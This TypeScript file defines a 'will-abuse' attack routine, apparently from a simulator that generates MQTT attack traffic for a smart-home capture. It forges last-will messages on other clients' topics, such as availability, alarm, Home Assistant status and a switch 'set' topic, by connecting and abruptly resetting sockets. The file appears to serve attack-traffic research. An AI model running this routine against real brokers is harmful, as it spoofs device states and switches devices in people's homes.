// Will abuse: publishes through wills.

import type { Attack } from '../attacker.js'
import { connectPacket } from '../packets.js'

/** Will abuse: publishes through wills. */
export const willAbuse: Attack = {
  name: 'will-abuse',
  summary:
    'will abuse: 3 to 5 addresses connect with a will on a topic of another client and reset the connection, about 8 times a second each',
  attackers: [3, 5],
  async run(attacker) {
    const {
      random,
      scene: { home }
    } = attacker
    // Mostly topics that others only read; one lamp is switched, too. The reactions of devices are benign and should
    // not fill the capture.
    const topics = [
      ...home.namesOf('switch').map(name => `${home.base}/${name}/availability`),
      ...home.namesOf('tasmota').map(name => `tele/${name}/LWT`),
      `${home.base}/alarm`,
      'homeassistant/status',
      `${home.base}/${home.namesOf('switch')[0]}/set`
    ]
    for (let tries = 0; tries < 500 && !attacker.over; tries++) {
      const socket = await attacker.connect()
      if (socket === null) return
      const clientId = random.text(12)
      const will = {
        topic: random.oneOf(topics),
        payload: random.oneOf(['ON', 'OFF', 'offline', 'Offline', random.text(random.integer(10, 400))]),
        qos: random.oneOf([0, 1, 2] as const),
        retain: random.chance(0.5)
      }
      attacker.logMessage(clientId, will.topic, will.payload)
      await attacker.send(socket, connectPacket({ clientId, keepalive: random.integer(1, 60), will }))
      await attacker.pause(random.between(20, 120))
      socket.resetAndDestroy()
      await attacker.pause(random.between(10, 100))
    }
  }
}
